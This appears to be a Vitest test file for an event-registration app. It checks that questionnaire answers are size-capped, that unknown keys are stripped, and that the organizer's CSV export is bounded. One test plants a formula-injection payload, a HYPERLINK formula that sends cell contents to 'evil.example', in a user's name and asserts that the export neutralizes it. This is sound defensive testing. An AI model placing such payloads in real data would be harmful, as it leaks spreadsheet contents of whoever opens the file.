// Questionnaire answers are bounded: only the frame's own question ids are stored, each answer
// and their number are capped, and the organizer's list and CSV stay small whatever a row holds.
// The CSV export neutralizes cells a spreadsheet would run as formulas.
import { beforeEach, describe, expect, it, vi } from "vitest";
import { asAnonymous, sessionJwtMock, nextAuthMock, nextCacheMock, nextHeadersMock, request, withBearer, withSession } from "./request-context";

vi.mock("next/headers", () => nextHeadersMock);
vi.mock("@/lib/session-jwt", () => sessionJwtMock);
vi.mock("next-auth", () => nextAuthMock);
vi.mock("next/cache", () => nextCacheMock);

const frames = await import("@/app/api/v1/events/[id]/frames/route");
const regs = await import("@/app/api/v1/events/[id]/registrations/route");
const csvRoute = await import("@/app/events/[id]/participants.csv/route");
const { applyAction } = await import("@/lib/registrations/actions");
const { createToken } = await import("@/lib/tokens/service");
const { makeEvent, makeGroup, makeUser } = await import("./factories");
const { db } = await import("@/lib/db");

const ctx = (id: string) => ({ params: Promise.resolve({ id }) });
function req(path: string, init: { method?: string; body?: unknown; raw?: string } = {}) {
  const h = new Headers(request.headers);
  h.set("accept-language", "en");
  const body = init.raw ?? (init.body === undefined ? undefined : JSON.stringify(init.body));
  return new Request(`http://localhost:3000${path}`, { method: init.method ?? "GET", headers: h, body });
}
async function as(user: { userId: string }) {
  withBearer((await createToken(user.userId, "t")).token);
}

async function setup() {
  const owner = await makeUser("owner");
  const g = await makeGroup(owner);
  const event = await makeEvent(owner, g.id, { startsAt: "2031-06-20T19:00", endsAt: "2031-06-20T21:30" }, true);
  await as(owner);
  const res = await frames.POST(
    req(`/api/v1/events/${event.id}/frames`, {
      method: "POST",
      body: {
        name: "一般枠",
        capacity: 10,
        method: "first_come",
        opensAt: new Date(Date.now() - 60_000).toISOString(),
        closesAt: "2031-06-19T12:00",
        questions: [
          { id: "party", label: "懇親会", kind: "choice", choices: ["yes", "no"], required: true },
          { id: "note", label: "=Note", kind: "text" },
        ],
      },
    }),
    ctx(event.id),
  );
  expect(res.status).toBe(201);
  return { owner, event, frame: (await res.json()) as { id: string } };
}

beforeEach(() => asAnonymous());

describe("answers through the API", () => {
  it("refuses 30,000 keys (30 MB) whole and stores nothing", async () => {
    const { event, frame } = await setup();
    const attendee = await makeUser("attendee");
    await as(attendee);
    const answers: Record<string, string> = { party: "yes" };
    for (let i = 0; i < 30_000; i++) answers[`k${i}`] = "x".repeat(1000);
    const res = await regs.POST(req(`/api/v1/events/${event.id}/registrations`, { method: "POST", raw: JSON.stringify({ frameId: frame.id, answers }) }), ctx(event.id));
    // 400 from the answers' own limit, or 413 when the body cap answers first.
    expect([400, 413]).toContain(res.status);
    expect(await db().registration.count({ where: { eventId: event.id } })).toBe(0);
  });

  it("stores only the frame's own question ids and refuses an answer over the length cap", async () => {
    const { owner, event, frame } = await setup();
    const attendee = await makeUser("attendee");
    await as(attendee);
    const long = await regs.POST(req(`/api/v1/events/${event.id}/registrations`, { method: "POST", body: { frameId: frame.id, answers: { party: "yes", note: "x".repeat(2001) } } }), ctx(event.id));
    expect(long.status).toBe(400);
    expect(await db().registration.count({ where: { eventId: event.id } })).toBe(0);

    const ok = await regs.POST(req(`/api/v1/events/${event.id}/registrations`, { method: "POST", body: { frameId: frame.id, answers: { party: "yes", note: "", smuggled: "y".repeat(1500), __proto__: "z" } } }), ctx(event.id));
    expect(ok.status).toBe(201);
    expect((await ok.json()).answers).toEqual({ party: "yes" });
    const row = await db().registration.findFirstOrThrow({ where: { eventId: event.id } });
    expect(JSON.parse(row.answers)).toEqual({ party: "yes" });

    await as(owner);
    const list = await (await regs.GET(req(`/api/v1/events/${event.id}/registrations`), ctx(event.id))).json();
    expect(list.items[0].answers).toEqual({ party: "yes" });
  });
});

describe("answers through the form", () => {
  it("drops fields that are not the frame's questions", async () => {
    const { event, frame } = await setup();
    const attendee = await makeUser("attendee");
    withSession(attendee.userId);
    const form = new FormData();
    form.set("eventId", event.id);
    form.set("frameId", frame.id);
    form.set("answers.party", "no");
    form.set("answers.note", "vegetarian");
    for (let i = 0; i < 50; i++) form.set(`answers.extra${i}`, "x".repeat(2000));
    const state = await applyAction(null, form);
    expect(state).toMatchObject({ ok: true });
    const row = await db().registration.findFirstOrThrow({ where: { eventId: event.id } });
    expect(JSON.parse(row.answers)).toEqual({ party: "no", note: "vegetarian" });
  });
});

describe("the organizer's participant list and CSV", () => {
  it("stay bounded when a stored row holds a huge answers object", async () => {
    const { owner, event, frame } = await setup();
    const attendee = await makeUser("attendee");
    await as(attendee);
    expect((await regs.POST(req(`/api/v1/events/${event.id}/registrations`, { method: "POST", body: { frameId: frame.id, answers: { party: "yes" } } }), ctx(event.id))).status).toBe(201);
    // A row written before the limits existed.
    const huge: Record<string, string> = { party: "yes", note: "n".repeat(50_000) };
    for (let i = 0; i < 30_000; i++) huge[`k${i}`] = "x".repeat(100);
    await db().registration.updateMany({ where: { eventId: event.id }, data: { answers: JSON.stringify(huge) } });
    const small = { party: "yes", note: "n".repeat(5_000) };
    const other = await makeUser("other");
    await as(other);
    expect((await regs.POST(req(`/api/v1/events/${event.id}/registrations`, { method: "POST", body: { frameId: frame.id, answers: { party: "no" } } }), ctx(event.id))).status).toBe(201);
    await db().registration.updateMany({ where: { eventId: event.id, userId: other.userId }, data: { answers: JSON.stringify(small) } });

    await as(owner);
    const listRes = await regs.GET(req(`/api/v1/events/${event.id}/registrations`), ctx(event.id));
    const text = await listRes.text();
    expect(text.length).toBeLessThan(20_000);
    const list = JSON.parse(text) as { items: { answers: Record<string, string> }[] };
    expect(list.items[0]!.answers).toEqual({});
    expect(list.items[1]!.answers).toEqual({ party: "yes", note: "n".repeat(2000) });

    const csv = await (await csvRoute.GET(req(`/events/${event.id}/participants.csv`), ctx(event.id))).text();
    expect(csv.length).toBeLessThan(20_000);
  });

  it("neutralizes cells that begin like a formula", async () => {
    const { owner, event, frame } = await setup();
    const attendee = await makeUser("attendee");
    await db().user.update({ where: { id: attendee.userId }, data: { name: '=HYPERLINK("https://evil.example/?"&A1,"click")' } });
    await as(attendee);
    const res = await regs.POST(req(`/api/v1/events/${event.id}/registrations`, { method: "POST", body: { frameId: frame.id, answers: { party: "yes", note: "@SUM(1+1)" } } }), ctx(event.id));
    expect(res.status).toBe(201);
    await as(owner);
    const csv = await (await csvRoute.GET(req(`/events/${event.id}/participants.csv`), ctx(event.id))).text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain("'=Note");
    expect(csv).not.toMatch(/(^|,)[=@+-]/m);
  });
});
